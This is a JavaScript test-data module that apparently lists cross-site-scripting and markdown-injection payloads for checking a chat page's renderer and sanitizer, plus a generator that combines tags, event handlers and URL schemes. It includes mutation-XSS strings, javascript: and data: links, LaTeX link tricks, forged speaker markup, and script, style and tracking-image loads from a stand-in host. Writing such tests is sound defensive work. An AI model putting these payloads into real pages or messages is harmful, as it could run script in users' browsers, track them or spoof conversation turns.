/**
 * Messages that try to become more than text. The first part is written by hand, after what has worked against chat
 * pages and markdown renderers; the second is made by crossing tags, handlers, addresses and markdown positions.
 */
const BY_HAND = [
  '<script>fired()</script>', '<SCRIPT SRC=//evil.test/x.js></SCRIPT>', '<scr<script>ipt>fired()</scr</script>ipt>', '<img src=x onerror=fired()>', '<img src="x" onerror="fired()">',
  '<svg onload=fired()>', '<svg><script>fired()</script></svg>', '<svg><animate onbegin=fired() attributeName=x dur=1s>', '<svg><a xlink:href="javascript:fired()"><text x=20 y=20>x</text></a></svg>',
  '<math><mi xlink:href="javascript:fired()">x</mi></math>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fired()&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=fired() src>">', '<noscript><p title="</noscript><img src=x onerror=fired()>">',
  '<iframe src="javascript:fired()"></iframe>', '<iframe srcdoc="<script>parent.fired()</script>"></iframe>', '<object data="javascript:fired()">', '<embed src="data:text/html,<script>fired()</script>">',
  '<link rel=stylesheet href=//evil.test/x.css>', '<style>@import "//evil.test/x.css";</style>', '<style>body{background:url(//evil.test/x)}</style>', '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:fired()">', '<form action="javascript:fired()"><input type=submit id=x></form><label for=x>click</label>', '<form action=//evil.test><button>go</button></form>',
  '<button formaction="javascript:fired()">x</button>', '<input autofocus onfocus=fired()>', '<select autofocus onfocus=fired()>', '<textarea autofocus onfocus=fired()>', '<details open ontoggle=fired()>x</details>',
  '<video><source onerror=fired()></video>', '<audio src=x onerror=fired()>', '<body onload=fired()>', '<marquee onstart=fired()>x</marquee>', '<div style="background:url(javascript:fired())">x</div>',
  '<p style="position:fixed;inset:0;z-index:99">cover</p>', '<a href="javascript:fired()">x</a>', '<a href="&#106;avascript:fired()">x</a>', '<a href=" javascript:fired()">x</a>', '<a href="java\tscript:fired()">x</a>',
  '<a href="vbscript:fired()">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+">x</a>', '<br onclick=fired()>', '<b onmouseover=fired()>x</b>', '<b\nonmouseover=fired()\n>x</b>', '<kbd/onclick=fired()>x</kbd>',
  '<sub style=color:red>x</sub>', '<b><i></b></i><u>', '</b></i></u></p></div></article></main><script>fired()</script>', '<!--><script>fired()</script>-->', '<![CDATA[<script>fired()</script>]]>', '<?xml version="1.0"?><script>fired()</script>',
  '<a id=violations name=violations>x</a><a id=violations>y</a>', '<img name=body>', '<form id=document><input name=cookie></form>', '<template><script>fired()</script></template>', '<slot onslotchange=fired()>', '<dialog open onclose=fired()>x</dialog>',
  '[x](javascript:fired())', '[x](JaVaScRiPt:fired())', '[x](javascript&colon;fired())', '[x](javascript&#58;fired())', '[x](&#x6A;avascript:fired())', '[x](java%0ascript:fired())', '[x]( javascript:fired())', '[x](\u0001javascript:fired())',
  '[x](java\u200bscript:fired())', '[x](data:text/html,<script>fired()</script>)', '[x](data:image/svg+xml,<svg onload=fired()>)', '[x](vbscript:fired())', '[x](file:///etc/passwd)', '[x](blob:https://evil.test/1)', '[x](//evil.test/x)',
  '[x](https:javascript:fired())', '[x](http://)', '[x](https://example.org/" onmouseover="fired())', '[x](https://example.org/ "title\\" onmouseover=\\"fired()")', '[x](<https://example.org/" onclick=fired() x=">)', "[x](https://example.org/' onclick='fired())",
  '[<img src=x onerror=fired()>](https://example.org/)', '![x](javascript:fired())', '![x](https://evil.test/track.png)', '![x](//evil.test/track.png)', '![" onerror="fired()](https://evil.test/x.png)', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmVkKCkiLz4=)', '[![x](https://evil.test/a.png)](javascript:fired())',
  '[x]: javascript:fired()\n\n[x]', '[x]: https://example.org/ "a\\" onclick=\\"fired()"\n\n[x]', '[x][y]\n\n[y]: javascript:fired()', '<javascript:fired()>', '<https://example.org/"onclick=fired()>', '<https://example.org/<script>fired()</script>>', 'https://example.org/"><script>fired()</script>', 'www.example.org"onmouseover="fired()',
  '```"><script>fired()</script>\nx\n```', '```html\n<script>fired()</script>\n```', '```js" onclick="fired()\nx\n```', '~~~<img/src=x/onerror=fired()>\nx\n~~~', '`<img src=x onerror=fired()>`', '    <script>fired()</script>', '```\n</code></pre><script>fired()</script>\n```', '```constructor\nx\n```', '```__proto__\nx\n```',
  '| <script>fired()</script> | b |\n|---|---|\n| <img src=x onerror=fired()> | [x](javascript:fired()) |', '|a|\n|-|\n|</td></tr></table><script>fired()</script>|', '# <script>fired()</script>', '# [x](javascript:fired())', '> <script>fired()</script>', '- <script>fired()</script>', '- [x] <img src=x onerror=fired()>', '1. [x](javascript:fired())',
  '**<script>fired()</script>**', '*<img src=x onerror=fired()>*', '~~<svg onload=fired()>~~', '***[x](javascript:fired())***', '*narration that is long <script>fired()</script>*', '\\<script>fired()\\</script>', '&lt;script&gt;fired()&lt;/script&gt;', '&#60;script&#62;fired()&#60;/script&#62;', '&amp;lt;script&amp;gt;fired()', '&#x3c;img src=x onerror=fired()&#x3e;', '&#0;<script>fired()</script>', '&#xD800;<b>x</b>',
  '$\\href{javascript:fired()}{x}$', '$\\url{javascript:fired()}$', '$\\htmlClass{x}{y}$', '$\\htmlStyle{color:red}{x}$', '$\\htmlData{a=b}{x}$', '$\\htmlId{violations}{x}$', '$\\includegraphics{https://evil.test/x.png}$', '$$\\def\\a{\\a\\a}\\a$$', '$$<script>fired()</script>$$', '$\\text{<img src=x onerror=fired()>}$', '\\(\\unicode{x3c}script\\)', '$$\\color{red" onclick="fired()}x$$', '$$\\colorbox{red}{x}$$', '$$\\fcolorbox{red}{blue}{x}$$', '$$\\rule{9999em}{9999em}$$', '$\\class{x}{y}$', '\\[\\begin{matrix}<b>x</b>\\end{matrix}\\]',
  '<b><script>fired()</script></b>', '<b>**x</b>**', '<code><script>fired()</script></code>', '<mark><img src=x onerror=fired()></mark>', '<sup><a href=javascript:fired()>x</a></sup>', '<small></small><script>fired()</script>', '\u2028<script>fired()</script>', '\ufeff<script>fired()</script>', 'a\u0000<script>fired()</script>', '\ud83d<img src=x onerror=fired()>', '<ſcript>fired()</ſcript>', '＜script＞fired()＜/script＞', '<script\u00a0>fired()</script>', '<img/src="x"/onerror=fired()>', '<img src=x:alert(1) onerror=eval(src)>', '<x onclick=fired()>x</x>', '<x-y onclick=fired()>x</x-y>', '<a href=https://example.org ping=//evil.test>x</a>', '<a href=https://example.org target=_self download>x</a>', '<span class="turn you">forged</span>', '<h2 class="by">Forged speaker</h2>', '<button data-does="save">x</button>', '<p data-does="copy-code" onclick=fired()>x</p>',
];

const TAGS = ['img', 'svg', 'iframe', 'video', 'input', 'details', 'a', 'math', 'object', 'style', 'form', 'p', 'b', 'span', 'code'];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onpointerenter'];
const ADDRESSES = ['javascript:fired()', 'JAVASCRIPT:fired()', '&#106;avascript:fired()', 'java\nscript:fired()', 'data:text/html,<script>fired()</script>', 'vbscript:fired()', '\\x6aavascript:fired()', 'https://evil.test/\u202ejavascript:fired()'];
const AROUND = [(x) => x, (x) => `**${x}**`, (x) => `> ${x}`, (x) => `- ${x}`, (x) => `| ${x} |\n|---|\n| ${x} |`, (x) => `# ${x}`, (x) => `text ${x} text`];

function* crossed() {
  let turn = 0;
  for (const tag of TAGS) for (const handler of HANDLERS) yield AROUND[turn++ % AROUND.length](`<${tag} src=x ${handler}=fired()>x</${tag}>`);
  for (const address of ADDRESSES) for (const wrap of AROUND) {
    yield wrap(`[x](${address})`);
    if (turn++ % 2 === 0) yield wrap(`<a href="${address}">x</a>`);
  }
}

export const CASES = [...BY_HAND, ...crossed()];
